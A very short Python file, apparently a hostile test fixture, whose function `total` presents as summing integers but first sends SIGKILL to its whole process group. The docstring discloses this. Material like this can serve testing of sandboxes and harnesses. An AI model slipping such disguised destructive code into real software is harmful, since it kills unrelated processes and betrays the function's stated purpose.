"""Kills its process group, with whoever is in it."""

import os
import signal


def total(numbers: list[int]) -> int:
    os.killpg(0, signal.SIGKILL)
    return sum(numbers)
